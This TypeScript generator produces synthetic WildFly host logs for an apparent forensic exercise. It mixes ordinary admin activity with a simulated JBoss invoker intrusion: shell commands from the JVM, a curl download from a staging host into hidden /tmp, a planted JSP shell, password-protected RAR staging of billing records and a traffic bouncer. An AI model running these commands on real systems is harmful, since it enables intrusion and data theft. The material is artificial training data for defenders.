/**
 * The Linux WildFly host of examples/soft-cell (APP-WF03, the self-care billing portal on CentOS 7,
 * WildFly 10 as user `wildfly`): four days of ordinary work and, on 2019-03-06, the same operator
 * getting in through the JMXInvokerServlet, running commands from the JVM, planting a JSP shell,
 * packing billing CDR exports into a password-protected split RAR under /tmp and starting an
 * HTRAN-like bouncer towards CDR-DB01. Written as the server writes it: an Undertow `combined`
 * access log with response times (server clock CET, +0100), raw auditd records, Sysmon for Linux
 * events in syslog beside ordinary syslog lines, and a `journalctl -u wildfly -o json` export.
 *
 * Called by generate-examples.ts; its own seeded generator keeps the Windows data unchanged.
 */
import { auditExec, clfTime, combinedLine, resetSysmonRecordId, sysmonFileCreate, sysmonNetwork, sysmonProcess } from './linux-evidence-lines.js';
import { seededRandom } from './seeded-random.js';

export interface LinuxHostContext {
  /** Day index (0 = 2019-03-04) and "HH:MM:SS" → epoch ms (UTC). */
  at: (day: number, hms: string) => number;
  days: number;
  operatorIp: string;
  stagingIp: string;
  cdrIp: string;
}

export interface LinuxHostOutput {
  files: Array<{ path: string; content: string; events: number }>;
  notes: Array<{ t: number; host: string; what: string }>;
}

export const LINUX_HOST = { folder: 'APP-WF03', name: 'app-wf03', ip: '172.16.10.13' };

const JAVA = '/usr/lib/jvm/java-1.8.0-openjdk-1.8.0.201.b09-2.el7_6.x86_64/jre/bin/java';
const JAVA_CMD = `${JAVA} -D[Standalone] -server -Xms1g -Xmx2g -XX:MetaspaceSize=96M -Djava.net.preferIPv4Stack=true -Dorg.jboss.boot.log.file=/opt/wildfly/standalone/log/server.log -Dlogging.configuration=file:/opt/wildfly/standalone/configuration/logging.properties -jar /opt/wildfly/jboss-modules.jar -mp /opt/wildfly/modules org.jboss.as.standalone -Djboss.home.dir=/opt/wildfly -Djboss.server.base.dir=/opt/wildfly/standalone -c standalone.xml -b 0.0.0.0`;
const JAVA_PID = 1402;
const WILDFLY_UID = 993;
const ADMIN_UID = 1001;
const LB_IP = '172.16.10.2';
const ADMIN_IP = '10.20.9.15';
const STAGE = '/tmp/.ICE-unix/.x';
const WAR = '/opt/wildfly/standalone/deployments/selfcare.war';
const PAGES = ['/selfcare/', '/selfcare/login', '/selfcare/account', '/selfcare/invoices', '/selfcare/invoices/2019-02.pdf', '/selfcare/usage', '/selfcare/topup', '/selfcare/static/app.js', '/selfcare/static/app.css'];
const UAS = [
  'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/72.0.3626.121 Safari/537.36',
  'Mozilla/5.0 (iPhone; CPU iPhone OS 12_1_4 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/12.0 Mobile/15E148 Safari/604.1',
  'Mozilla/5.0 (Linux; Android 9; SM-G960F) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/72.0.3626.105 Mobile Safari/537.36',
];

interface Line { t: number; text: string; events: number }

export function linuxWildflyHost(ctx: LinuxHostContext): LinuxHostOutput {
  const rand = seededRandom(0x11a0f03);
  const int = (lo: number, hi: number): number => lo + Math.floor(rand() * (hi - lo + 1));
  const pick = <T>(xs: readonly T[]): T => xs[Math.floor(rand() * xs.length)]!;
  resetSysmonRecordId(30_112);
  const host = LINUX_HOST.name;
  const iso = (t: number): string => new Date(t).toISOString();
  const access: Line[] = [];
  const audit: Line[] = [];
  const syslog: Line[] = [];
  const journal: Line[] = [];
  const notes: LinuxHostOutput['notes'] = [];
  let serial = 81_200;
  let pid = 20_000;

  const web = (t: number, o: { ip: string; method?: string; uri: string; status?: number; bytes?: number; ua: string; referer?: string }): void => {
    access.push({ t, events: 1, text: combinedLine({ method: 'GET', status: 200, bytes: int(800, 30_000), millis: int(2, 180), ...o, clf: clfTime(t, 60) }) });
  };
  const bsd = (t: number): string => {
    const d = new Date(t);
    return `${d.toUTCString().slice(8, 11)} ${String(d.getUTCDate()).padStart(2, ' ')} ${d.toISOString().slice(11, 19)}`;
  };
  const sys = (t: number, program: string, message: string): void => {
    syslog.push({ t, events: 1, text: `${bsd(t)} ${host} ${program}: ${message}` });
  };
  /** A process seen by Sysmon (syslog) and, when auditd's rules cover it, by auditd. */
  const run = (t: number, p: { exe: string; args: string[]; parentImage: string; parentCmd: string; ppid: number; uid: number; user: string; cwd: string; audited: boolean }): number => {
    const me = pid++;
    syslog.push({ t, events: 1, text: sysmonProcess(host, iso(t), { image: p.exe, cmd: p.args.join(' '), parentImage: p.parentImage, parentCmd: p.parentCmd, user: p.user, cwd: p.cwd, pid: me, ppid: p.ppid }) });
    if (p.audited) {
      const records = auditExec(host, (t + 3) / 1000, serial++, { exe: p.exe, args: p.args, ppid: p.ppid, pid: me, uid: p.uid, cwd: p.cwd });
      audit.push({ t: t + 3, events: records.length, text: records.join('\n') });
    }
    return me;
  };
  const auditUser = (t: number, type: string, body: string): void => {
    audit.push({ t, events: 1, text: `node=${host} type=${type} msg=audit(${(t / 1000).toFixed(3)}:${serial++}): ${body}` });
  };
  const journalEntry = (t: number, message: string, priority = 6): void => {
    const us = String(t * 1000 + int(0, 999));
    const entry = {
      __CURSOR: `s=6f1c2d3e4b5a49a8b1c2d3e4f5a6b7c8;i=${(0x2a000 + journal.length).toString(16)};b=0d4be5a0c3b34c1e9a7c5b2d1e0f9a8b;m=${(t - ctx.at(0, '00:00:00')).toString(16)};t=${Number(us).toString(16)}`,
      __REALTIME_TIMESTAMP: us, _HOSTNAME: host, PRIORITY: String(priority), SYSLOG_FACILITY: '3', SYSLOG_IDENTIFIER: 'standalone.sh', _SYSTEMD_UNIT: 'wildfly.service',
      _PID: String(JAVA_PID), _UID: String(WILDFLY_UID), _COMM: 'java', _EXE: JAVA, MESSAGE: message,
    };
    journal.push({ t, events: 1, text: JSON.stringify(entry) });
  };

  // --- Ordinary days: customers, health checks, cron, admin work, a redeploy ---
  for (let d = 0; d < ctx.days; d++) {
    for (let m = 0; m < 24 * 60; m += 15) {
      const t = ctx.at(d, '00:00:00') + m * 60_000 + int(0, 20_000);
      web(t, { ip: LB_IP, uri: '/selfcare/health', bytes: 15, ua: 'check_http/v2.2 (nagios-plugins 2.2.1)' });
    }
    for (let i = 0; i < 60; i++) {
      const t = ctx.at(d, '06:00:00') + int(0, 16 * 3600) * 1000;
      const ip = `${pick(['81.2', '85.166', '95.85', '188.95'])}.${int(1, 254)}.${int(1, 254)}`;
      const ua = pick(UAS);
      web(t, { ip, uri: '/selfcare/login', ua });
      web(t + 4000, { ip, method: 'POST', uri: '/selfcare/login', status: 302, bytes: 0, ua, referer: 'https://selfcare.nordtel.example/selfcare/login' });
      web(t + 5000, { ip, uri: pick(PAGES), ua, referer: 'https://selfcare.nordtel.example/selfcare/account' });
    }
    for (let h = 1; h < 24; h += 4) {
      const t = ctx.at(d, `${String(h).padStart(2, '0')}:01:01`);
      sys(t, 'CROND[' + (pid + 1) + ']', '(root) CMD (run-parts /etc/cron.hourly)');
      run(t + 10, { exe: '/usr/bin/run-parts', args: ['/bin/bash', '/bin/run-parts', '/etc/cron.hourly'], parentImage: '/usr/sbin/crond', parentCmd: '/usr/sbin/crond -n', ppid: 911, uid: 0, user: 'root', cwd: '/root', audited: false });
    }
    const tl = ctx.at(d, '03:12:00');
    run(tl, { exe: '/usr/sbin/logrotate', args: ['/usr/sbin/logrotate', '-s', '/var/lib/logrotate/logrotate.status', '/etc/logrotate.conf'], parentImage: '/usr/bin/bash', parentCmd: '/bin/sh /etc/cron.daily/logrotate', ppid: 3100 + d, uid: 0, user: 'root', cwd: '/', audited: false });
    run(tl + 30_000, { exe: '/usr/bin/tar', args: ['tar', 'czf', `/var/backups/wildfly-config-2019030${4 + d}.tgz`, '/opt/wildfly/standalone/configuration'], parentImage: '/usr/bin/bash', parentCmd: '/bin/sh /etc/cron.daily/wildfly-backup', ppid: 3110 + d, uid: 0, user: 'root', cwd: '/', audited: false });
    // The admin logs in over SSH and checks the service.
    const ta = ctx.at(d, '08:40:00') + int(0, 1800) * 1000;
    sys(ta, 'sshd[' + (4100 + d) + ']', `Accepted publickey for nadia from ${ADMIN_IP} port ${int(40000, 60000)} ssh2: RSA SHA256:3q1XZfTn0nq2vYcHk7b8V0pD1s9eWc4mQy6uJr5aLk8`);
    auditUser(ta + 200, 'USER_LOGIN', `pid=${4100 + d} uid=0 auid=${ADMIN_UID} ses=${20 + d} msg='op=login id=${ADMIN_UID} exe="/usr/sbin/sshd" hostname=${ADMIN_IP} addr=${ADMIN_IP} terminal=ssh res=success'`);
    const shell = run(ta + 3000, { exe: '/usr/bin/bash', args: ['-bash'], parentImage: '/usr/sbin/sshd', parentCmd: 'sshd: nadia@pts/0', ppid: 4100 + d, uid: ADMIN_UID, user: 'nadia', cwd: '/home/nadia', audited: true });
    auditUser(ta + 9000, 'USER_CMD', `pid=${shell + 1} uid=${ADMIN_UID} auid=${ADMIN_UID} ses=${20 + d} msg='cwd="/home/nadia" cmd=${Buffer.from('systemctl status wildfly').toString('hex').toUpperCase()} terminal=pts/0 res=success'`);
    run(ta + 60_000, { exe: '/usr/bin/tail', args: ['tail', '-n', '200', '/opt/wildfly/standalone/log/server.log'], parentImage: '/usr/bin/bash', parentCmd: '-bash', ppid: shell, uid: ADMIN_UID, user: 'nadia', cwd: '/home/nadia', audited: true });
    if (d === 1) {
      // Look-alikes of the attack's steps that are ordinary work: logs zipped to /tmp for a vendor
      // case (no password), an encrypted export to the backup volume (not under /tmp), a redeploy.
      run(ta + 120_000, { exe: '/usr/bin/zip', args: ['zip', '-r', '/tmp/wildfly-logs-case4711.zip', '/opt/wildfly/standalone/log'], parentImage: '/usr/bin/bash', parentCmd: '-bash', ppid: shell, uid: ADMIN_UID, user: 'nadia', cwd: '/home/nadia', audited: true });
      run(ta + 180_000, { exe: '/usr/bin/7za', args: ['7za', 'a', '-pVendorCase4711', '/srv/backup/selfcare-db-20190305.7z', '/srv/backup/selfcare-db-20190305.sql'], parentImage: '/usr/bin/bash', parentCmd: '-bash', ppid: shell, uid: ADMIN_UID, user: 'nadia', cwd: '/home/nadia', audited: true });
      const tr = ta + 300_000;
      run(tr, { exe: '/usr/bin/cp', args: ['cp', '/home/nadia/selfcare-2.4.1.war', '/opt/wildfly/standalone/deployments/selfcare.war.tmp'], parentImage: '/usr/bin/bash', parentCmd: '-bash', ppid: shell, uid: ADMIN_UID, user: 'nadia', cwd: '/home/nadia', audited: true });
      journalEntry(tr + 2000, 'INFO  [org.jboss.as.server.deployment] (MSC service thread 1-3) WFLYSRV0027: Starting deployment of "selfcare.war" (runtime-name: "selfcare.war")');
      for (const [i, page] of ['index.jsp', 'login.jsp', 'account/invoices.jsp'].entries()) {
        syslog.push({ t: tr + 2500 + i * 40, events: 1, text: sysmonFileCreate(host, iso(tr + 2500 + i * 40), JAVA, `/opt/wildfly/standalone/tmp/vfs/temp/tempb7e2a1f0c3d4e5f6/content-5a1c9e77d2b0f3a4/${page}`, JAVA_PID) });
      }
      journalEntry(tr + 6000, 'INFO  [org.jboss.as.server] (ServerService Thread Pool -- 61) WFLYSRV0016: Replaced deployment "selfcare.war" with deployment "selfcare.war"');
    }
    journalEntry(ctx.at(d, '00:00:05'), `INFO  [org.jboss.as.server] (DeploymentScanner-threads - 1) WFLYSRV0010: Deployed "selfcare.war" (runtime-name : "selfcare.war")`);
  }

  // --- 2019-03-06 09:20: JBoss invoker deserialisation, commands from the JVM, JSP shell, staging, bouncer ---
  const op = ctx.operatorIp;
  const tX = ctx.at(2, '09:20:11');
  notes.push({ t: tX, host: LINUX_HOST.folder, what: `Linux WildFly exploited from ${op}: GET then POST /invoker/JMXInvokerServlet (Undertow access log); the JVM runs sh -c "id;uname -a" and curl pulls a bouncer into ${STAGE} (Sysmon for Linux, auditd)` });
  web(tX - 4000, { ip: op, uri: '/invoker/JMXInvokerServlet', status: 200, bytes: 1211, ua: 'Java/1.8.0_181' });
  web(tX, { ip: op, method: 'POST', uri: '/invoker/JMXInvokerServlet', status: 200, bytes: 1583, ua: 'Java/1.8.0_181' });
  journalEntry(tX + 300, 'ERROR [io.undertow.request] (default task-7) UT005023: Exception handling request to /invoker/JMXInvokerServlet: java.lang.ClassCastException: java.util.HashSet cannot be cast to org.jboss.invocation.MarshalledInvocation', 3);
  const asWildfly = { parentImage: JAVA, parentCmd: JAVA_CMD, ppid: JAVA_PID, uid: WILDFLY_UID, user: 'wildfly', cwd: '/opt/wildfly/bin', audited: true };
  const sh1 = run(tX + 800, { exe: '/usr/bin/bash', args: ['/bin/sh', '-c', 'id;uname -a'], ...asWildfly });
  run(tX + 850, { exe: '/usr/bin/id', args: ['id'], ...asWildfly, parentImage: '/usr/bin/bash', parentCmd: '/bin/sh -c id;uname -a', ppid: sh1 });
  run(tX + 900, { exe: '/usr/bin/uname', args: ['uname', '-a'], ...asWildfly, parentImage: '/usr/bin/bash', parentCmd: '/bin/sh -c id;uname -a', ppid: sh1 });
  web(tX + 40_000, { ip: op, method: 'POST', uri: '/invoker/JMXInvokerServlet', status: 200, bytes: 1583, ua: 'Java/1.8.0_181' });
  run(tX + 41_000, { exe: '/usr/bin/curl', args: ['curl', '-s', '-o', `${STAGE}/kworkerd`, `http://${ctx.stagingIp}/lx/k`], ...asWildfly });
  syslog.push({ t: tX + 41_200, events: 1, text: sysmonNetwork(host, iso(tX + 41_200), { image: '/usr/bin/curl', pid: pid - 1, user: 'wildfly', initiated: true, src: LINUX_HOST.ip, sport: int(40000, 60000), dst: ctx.stagingIp, dport: 80 }) });
  web(tX + 80_000, { ip: op, method: 'POST', uri: '/invoker/JMXInvokerServlet', status: 200, bytes: 1583, ua: 'Java/1.8.0_181' });
  run(tX + 81_000, { exe: '/usr/bin/bash', args: ['/bin/sh', '-c', `chmod 755 ${STAGE}/kworkerd`], ...asWildfly });

  const tJ = ctx.at(2, '09:23:05');
  notes.push({ t: tJ, host: LINUX_HOST.folder, what: `The JVM writes a JSP shell into the exploded deployment (${WAR}/css/error.jsp); commands then come through POSTs to it` });
  web(tJ - 1000, { ip: op, method: 'POST', uri: '/invoker/JMXInvokerServlet', status: 200, bytes: 1583, ua: 'Java/1.8.0_181' });
  syslog.push({ t: tJ, events: 1, text: sysmonFileCreate(host, iso(tJ), JAVA, `${WAR}/css/error.jsp`, JAVA_PID) });
  const jsp = (t: number, cmd: string, exe: string, args: string[]): number => {
    web(t - 300, { ip: op, method: 'POST', uri: '/selfcare/css/error.jsp', status: 200, bytes: int(200, 3000), ua: UAS[0]! });
    const sh = run(t, { exe: '/usr/bin/bash', args: ['/bin/sh', '-c', cmd], ...asWildfly });
    return run(t + 40, { exe, args, ...asWildfly, parentImage: '/usr/bin/bash', parentCmd: `/bin/sh -c ${cmd}`, ppid: sh });
  };
  jsp(tJ + 60_000, 'cat /opt/wildfly/standalone/configuration/standalone.xml', '/usr/bin/cat', ['cat', '/opt/wildfly/standalone/configuration/standalone.xml']);
  jsp(tJ + 95_000, 'ls -la /srv/billing/export', '/usr/bin/ls', ['ls', '-la', '/srv/billing/export']);

  const tR = ctx.at(2, '10:02:40');
  notes.push({ t: tR, host: LINUX_HOST.folder, what: `Billing CDR exports packed with a password into 50 MB RAR volumes under ${STAGE}, and fetched through the JSP shell` });
  jsp(tR, `rar a -hpRg#2019cdr -v50m ${STAGE}/m.rar /srv/billing/export/cdr_20190305.csv`, `${STAGE}/rar`, ['rar', 'a', '-hpRg#2019cdr', '-v50m', `${STAGE}/m.rar`, '/srv/billing/export/cdr_20190305.csv']);
  for (let i = 1; i <= 3; i++) web(tR + 60_000 + i * 45_000, { ip: op, method: 'POST', uri: '/selfcare/css/error.jsp', status: 200, bytes: i < 3 ? 52_428_800 : 18_211_377, ua: UAS[0]! });

  const tB = ctx.at(2, '10:31:09');
  notes.push({ t: tB, host: LINUX_HOST.folder, what: `HTRAN-like bouncer (${STAGE}/kworkerd -tran 8443 ${ctx.cdrIp} 1433) accepts ${op} and connects to CDR-DB01` });
  const bouncer = jsp(tB, `nohup ${STAGE}/kworkerd -tran 8443 ${ctx.cdrIp} 1433 >/dev/null 2>&1 &`, `${STAGE}/kworkerd`, [`${STAGE}/kworkerd`, '-tran', '8443', ctx.cdrIp, '1433']);
  syslog.push({ t: tB + 20_000, events: 1, text: sysmonNetwork(host, iso(tB + 20_000), { image: `${STAGE}/kworkerd`, pid: bouncer, user: 'wildfly', initiated: false, src: op, sport: int(40000, 60000), dst: LINUX_HOST.ip, dport: 8443 }) });
  syslog.push({ t: tB + 20_100, events: 1, text: sysmonNetwork(host, iso(tB + 20_100), { image: `${STAGE}/kworkerd`, pid: bouncer, user: 'wildfly', initiated: true, src: LINUX_HOST.ip, sport: int(40000, 60000), dst: ctx.cdrIp, dport: 1433 }) });

  const write = (lines: Line[]): { content: string; events: number } => {
    const sorted = lines.sort((a, b) => a.t - b.t);
    return { content: sorted.map((l) => l.text).join('\n') + '\n', events: sorted.reduce((s, l) => s + l.events, 0) };
  };
  const f = LINUX_HOST.folder;
  return {
    files: [
      { path: `${f}/wildfly/access_log.log`, ...write(access) },
      { path: `${f}/audit/audit.log`, ...write(audit) },
      { path: `${f}/syslog`, ...write(syslog) },
      { path: `${f}/journal-wildfly.json`, ...write(journal) },
    ],
    notes,
  };
}
